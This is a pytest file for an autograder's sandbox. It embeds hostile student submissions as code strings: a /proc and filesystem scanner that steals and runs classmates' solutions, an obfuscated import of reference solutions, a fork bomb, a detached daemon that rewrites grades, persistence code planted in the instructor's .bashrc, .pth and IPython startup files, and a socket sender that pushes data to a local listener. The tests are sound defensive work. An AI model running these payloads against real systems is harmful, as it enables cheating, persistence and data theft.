"""One student's grading cannot see another's, reach the network, or outlive its job (issue 12).

Crafted ``ctc`` submissions (stubs that attack the grader) are graded beside a correct and a stub
notebook, in ONE ``grade`` run per mode: as root (every job under a uid of its own) and as an
unprivileged user (the grader run by root as a throwaway uid, as an instructor on a laptop runs
it). Beside each run, a second ``grade`` run of one correct notebook goes on at the same time (two
TAs on one server). Each test then reads the shared outcome: the grades, the reasons, what the
attack cells reported from inside the notebook's run, and what changed outside the jobs.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from _hostile import (
    ROOT,
    Listener,
    as_user,
    grade_rows,
    mode_folder,
    notebook_reports,
    release_notebook,
    report_code,
    solved_notebook,
    with_cells,
)

from autograder import sandbox
from autograder.checks import CHECKS
from autograder.pipeline import Grader, SandboxUnavailable, Settings

pytestmark = [pytest.mark.grading, pytest.mark.slow]

ASSIGNMENT = "ctc"
MAX = {c.name: c.points for c in CHECKS[ASSIGNMENT]}
TIMEOUT = 10  # seconds per cell / per check
UNPRIVILEGED_UID = 63000  # outside the range the grader leases uids from
ISOLATION = sandbox.probe()
needs_sandbox = pytest.mark.skipif(
    not ISOLATION.sandboxed and not os.environ.get("REQUIRE_SANDBOX"),
    reason=f"no sandbox on this machine: {ISOLATION.problem}")


def copier(paths: dict[str, str]) -> str:
    """Looks for classmates through /proc, the export folder, the course folder, other jobs'
    folders and the repository; runs any solution it can read."""
    return f"""
import glob, json, os, re
processes = {{}}
for folder in glob.glob('/proc/[0-9]*'):
    try:
        command = open(folder + '/cmdline', 'rb').read()
        processes[folder[6:]] = command.replace(b'\\0', b' ').decode()
    except OSError:
        pass
targets = {sorted(paths.values())!r} + glob.glob('/tmp/autograder-jobs-*')
for command in processes.values():
    targets += re.findall(r'/[^ ]*autograder-jobs-[^ /]*', command)
readable, stolen = [], []
for target in targets:
    for folder, _, files in os.walk(target):
        for name in files:
            path = os.path.join(folder, name)
            try:
                text = open(path).read()
            except (OSError, UnicodeDecodeError):
                continue
            readable.append(path)
            if not path.endswith('.ipynb') or 'NotImplementedError' in text:
                continue
            for cell in json.loads(text).get('cells', []):
                code = ''.join(cell.get('source', ''))
                if cell.get('cell_type') == 'code' and 'def ctc_' in code:
                    try:
                        exec(code, globals())
                        stolen.append(path)
                    except Exception:
                        pass
{report_code("copier", "{'processes': processes, 'readable': readable, 'stolen': stolen}")}
"""


def importer(repo: str) -> str:
    # The module's name is computed, so that only the sandbox (not the static scan) can stop it.
    return f"""
import sys
sys.path.insert(0, {repo!r})
try:
    reference = __import__(bytes([115, 111, 108, 117, 116, 105, 111, 110, 115]).decode() + '.ctc',
                           fromlist=['ctc_forward'])
    globals().update({{k: v for k, v in vars(reference).items() if k.startswith('ctc_')}})
    imported = True
except ImportError:
    imported = False
{report_code("importer", "{'imported': imported}")}
"""


def forker() -> str:
    return f"""
import os, time
children, error = [], None
try:
    for _ in range(400):
        pid = os.fork()
        if pid == 0:
            time.sleep(5)
            os._exit(0)
        children.append(pid)
except OSError as exc:
    error = type(exc).__name__
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
{report_code("forker", "{'forks': len(children), 'error': error}")}
"""


def daemon(marker: str, targets: list[str]) -> str:
    """A double-forked setsid daemon that keeps trying to rewrite the grades for two minutes."""
    payload = (f"import time\n# {marker}\nend = time.time() + 120\nwhile time.time() < end:\n"
               f"    for path in {targets!r}:\n        try:\n"
               f"            open(path, 'a').write('daemon,17\\n')\n"
               f"        except OSError:\n            pass\n    time.sleep(0.5)\n")
    return f"""
import os, sys
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', {payload!r}])
    os._exit(0)
os.waitpid(pid, 0)
{report_code("daemon", "{'started': True}")}
"""


PLANTED = {".ipython/profile_default/startup/00-planted.py": "print('planted')\n",
           ".local/lib/python3.11/site-packages/planted.pth": "import os\n",
           ".bashrc": "echo planted\n"}


def planter(home: str) -> str:
    """Plants code in the instructor's home, where IPython, Python and bash would run it later."""
    files = PLANTED
    return f"""
import os
planted, own_home = [], os.path.expanduser('~')
for name, text in {files!r}.items():
    path = os.path.join({home!r}, name)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, 'a').write(text)
        planted.append(path)
    except OSError:
        pass
open(os.path.join(own_home, '.bashrc'), 'a').write('echo planted\\n')
{report_code("planter", "{'planted': planted, 'own_home': own_home}")}
"""


def network(port: int) -> str:
    return f"""
import socket
try:
    connection = socket.create_connection(('127.0.0.1', {port}), timeout=3)
    connection.sendall(b'leaked')
    outcome = 'connected'
except OSError as exc:
    outcome = type(exc).__name__
{report_code("network", "{'outcome': outcome}")}
"""


HOSTILE = ("copier", "importer", "forker", "daemon", "planter", "network")


def _digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(str(path).encode())
        if path.is_file():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def _marked_processes(marker: str) -> list[str]:
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            command = (folder / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if marker in command and "pytest" not in command:
            found.append(command[:200])
    return found


@pytest.fixture(scope="session", params=["root", "user"])
def graded(request):
    """Both grade runs of one mode, at once; the outcome and what changed around them."""
    mode = request.param
    root = os.geteuid() == 0
    base = mode_folder(request, ISOLATION, "isolation-")
    home, export, course = base / "home", base / "export", base / "course"
    twin_export, twin_course = base / "twin-export", base / "twin-course"
    for folder in (home, export, twin_export):
        folder.mkdir()
    (home / ".bashrc").write_text("# the instructor's\n")
    listener = Listener()
    request.addfinalizer(listener.close)
    marker = f"isolation-daemon-{os.getpid()}-{mode}"
    paths = {"export": str(export), "course": str(course), "twin": str(twin_export),
             "solutions": str(ROOT / "solutions"), "source": str(ROOT / "autograder" / "source")}
    notebooks = {
        "correct": solved_notebook(ASSIGNMENT),
        "stub": release_notebook(ASSIGNMENT),
        "copier": with_cells(release_notebook(ASSIGNMENT), copier(paths)),
        "importer": with_cells(release_notebook(ASSIGNMENT), importer(str(ROOT))),
        "forker": with_cells(release_notebook(ASSIGNMENT), forker()),
        "daemon": with_cells(release_notebook(ASSIGNMENT), daemon(marker, [
            str(course / f"grades-{ASSIGNMENT}.csv"), str(base / "daemon-was-here")])),
        "planter": with_cells(release_notebook(ASSIGNMENT), planter(str(home))),
        "network": with_cells(release_notebook(ASSIGNMENT), network(listener.port)),
    }
    import nbformat

    for student, nb in notebooks.items():
        nbformat.write(nb, export / f"{student}.ipynb")
    nbformat.write(solved_notebook(ASSIGNMENT), twin_export / "twin.ipynb")
    if mode == "user" and root:
        for path in [base, *base.rglob("*")]:
            os.chown(path, UNPRIVILEGED_UID, UNPRIVILEGED_UID)
    before = {"export": _digest(export), "home": _digest(home)}

    def command(folder: Path, course_dir: Path) -> list[str]:
        grade = [sys.executable, "-m", "autograder", "grade", ASSIGNMENT, str(folder),
                 "--course-dir", str(course_dir), "--jobs", "2", "--timeout", str(TIMEOUT),
                 "--no-progress"]
        return as_user(grade, UNPRIVILEGED_UID) if mode == "user" and root else grade

    env = dict(os.environ, HOME=str(home))
    runs = [subprocess.Popen(command(folder, course_dir), cwd=ROOT, env=env, text=True,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            for folder, course_dir in ((export, course), (twin_export, twin_course))]
    outputs = [run.communicate(timeout=1500) for run in runs]
    for run, (_, stderr) in zip(runs, outputs, strict=True):
        assert run.returncode == 0, stderr[-3000:]
    return {"mode": mode, "rows": grade_rows(course, ASSIGNMENT),
            "twin": grade_rows(twin_course, ASSIGNMENT), "course": course,
            "base": base, "home": home, "export": export, "before": before, "marker": marker,
            "listener": listener, "stdout": outputs[0][0]}


def total(graded, student) -> float:
    return float(graded["rows"][student]["total"])


def reports(graded, student) -> dict:
    path = graded["course"] / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    if not path.exists():
        result = json.loads((graded["course"] / "results" / ASSIGNMENT / f"{student}.json")
                            .read_text())
        pytest.fail(f"no autograded notebook for {student}: {result['notes']}")
    return notebook_reports(path)


def test_summary_names_the_sandbox(graded):
    assert "isolation: bubblewrap sandbox per job" in graded["stdout"]


def test_correct_and_stub_are_graded_as_usual(graded):
    assert total(graded, "correct") == sum(MAX.values())
    assert total(graded, "stub") == 0
    assert "not implemented" in graded["rows"]["stub"]["reason"]


@pytest.mark.parametrize("student", HOSTILE)
def test_hostile_submission_gets_the_stubs_grade(graded, student):
    assert total(graded, student) == 0, graded["rows"][student]["reason"]
    assert "not implemented" in graded["rows"][student]["reason"]


@pytest.mark.parametrize("student", HOSTILE)
def test_feedback_holds_no_hidden_test(graded, student):
    page = (graded["course"] / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html")
    text = page.read_text()
    assert "BEGIN HIDDEN TESTS" not in text and "run_check" not in text


def test_a_job_sees_only_its_own_processes(graded):
    seen = reports(graded, "copier")["copier"]["processes"]
    # bubblewrap's PID 1 and the notebook's run (with any helper it started); no grader, no
    # classmate.
    assert len(seen) <= 4, seen
    assert not any("autograder.worker" in c or " grade " in c or "correct" in c
                   for c in seen.values()), seen


def test_a_job_cannot_read_classmates_the_export_or_the_course(graded):
    found = reports(graded, "copier")["copier"]
    assert found["stolen"] == []
    outside = [p for p in found["readable"] if str(graded["base"]) in p or str(ROOT) in p]
    assert outside == [], outside
    classmates = [p for p in found["readable"]
                  if any(f"/{s}-" in p or f"/{s}/" in p for s in ("correct", "twin", "stub"))]
    assert classmates == [], classmates


def test_solutions_cannot_be_imported(graded):
    assert reports(graded, "importer")["importer"] == {"imported": False}


def test_a_fork_bomb_is_stopped_at_the_process_limit(graded):
    forks = reports(graded, "forker")["forker"]
    assert forks["error"] == "BlockingIOError" and forks["forks"] < sandbox.Limits().nproc


def test_a_daemon_does_not_outlive_its_job(graded):
    assert reports(graded, "daemon")["daemon"] == {"started": True}
    assert _marked_processes(graded["marker"]) == []
    assert not (graded["base"] / "daemon-was-here").exists()
    assert "daemon,17" not in (graded["course"] / f"grades-{ASSIGNMENT}.csv").read_text()


def test_nothing_is_planted_in_the_instructors_home(graded):
    found = reports(graded, "planter")["planter"]
    # The writes land in the sandbox's private file system, which ends with the job.
    assert len(found["planted"]) == len(PLANTED)
    assert not found["own_home"].startswith(str(graded["home"]))
    for name in PLANTED:
        if name == ".bashrc":
            assert (graded["home"] / name).read_text() == "# the instructor's\n"
        else:
            assert not (graded["home"] / name).exists(), name


def test_student_code_has_no_network(graded):
    assert reports(graded, "network")["network"]["outcome"] != "connected"
    assert graded["listener"].accepted == []


def test_the_export_folder_is_unchanged(graded):
    assert _digest(graded["export"]) == graded["before"]["export"]


def test_two_grade_runs_at_once_both_grade_correctly(graded):
    assert total(graded, "correct") == sum(MAX.values())
    assert float(graded["twin"]["twin"]["total"]) == sum(MAX.values()), graded["twin"]["twin"]


@needs_sandbox
def test_two_leases_never_share_a_uid(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("uids are leased only by root")
    lock_dir = tmp_path / "uids"
    with sandbox.lease_uid(str(lock_dir)) as first, sandbox.lease_uid(str(lock_dir)) as second:
        assert first.uid != second.uid
        # Another process (another grade run) cannot take either while they are held.
        code = (f"from autograder.sandbox import lease_uid\n"
                f"print(lease_uid({str(lock_dir)!r}).uid)")
        other = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                               cwd=ROOT, check=True)
        assert int(other.stdout) not in (first.uid, second.uid)
    with sandbox.lease_uid(str(lock_dir)) as again:
        assert again.uid == first.uid  # released, so free again


def test_grade_refuses_without_a_sandbox(tmp_path):
    grader = Grader(Settings(course_dir=str(tmp_path / "course"), progress=False))
    missing = sandbox.Isolation(False, False, "bubblewrap (bwrap) is not installed")
    try:
        with pytest.raises(SandboxUnavailable) as error:
            grader.grade(ASSIGNMENT, str(tmp_path), isolation=missing)
    finally:
        grader.close()
    message = str(error.value)
    assert "apt install bubblewrap" in message and "--unsandboxed" in message


def test_unsandboxed_says_what_is_unprotected():
    text = sandbox.Isolation(False, False).describe()
    for risk in ("solutions/", "the gradebook", "network", "processes running"):
        assert risk in text


@needs_sandbox
def test_a_verification_killed_from_outside_is_run_again(graded, tmp_path):
    """SIGKILL from outside (the OOM killer, another grader) is not the student's fault."""
    import nbformat

    from autograder.verify import verify
    from autograder.worker import student_cells

    if graded["mode"] != "root" or os.geteuid() != 0:
        pytest.skip("run once, in root mode")
    template = next((graded["course"] / ".grader").glob(f"{ASSIGNMENT}-*"))
    work = tmp_path / "verify"
    cells = student_cells(nbformat.read(graded["export"] / "correct.ipynb", as_version=4))
    killed = []

    def kill_once():
        progress = work / "out1" / "progress"
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not killed:
            if progress.exists():
                for folder in Path("/proc").glob("[0-9]*"):
                    try:
                        command = (folder / "cmdline").read_bytes()
                    except OSError:
                        continue
                    if str(work).encode() in command and b"verify_child.py" in command:
                        os.kill(int(folder.name), signal.SIGKILL)
                        killed.append(int(folder.name))
            time.sleep(0.02)

    killer = threading.Thread(target=kill_once)
    killer.start()
    with sandbox.lease_uid() as lease:
        work.mkdir()
        os.chown(work, lease.uid, lease.uid)
        source = template / "source" / ASSIGNMENT
        data = [str(p) for p in source.iterdir() if p.is_file() and p.suffix != ".ipynb"]
        results = verify(ASSIGNMENT, cells, str(template), str(work), uid=lease.uid,
                         confine=True, timeout=TIMEOUT, limits=sandbox.Limits(cpu_s=600),
                         data_files=data).results
    killer.join()
    assert killed, "the child was never seen"
    assert {r.name: r.points for r in results} == MAX, [r.reason for r in results]
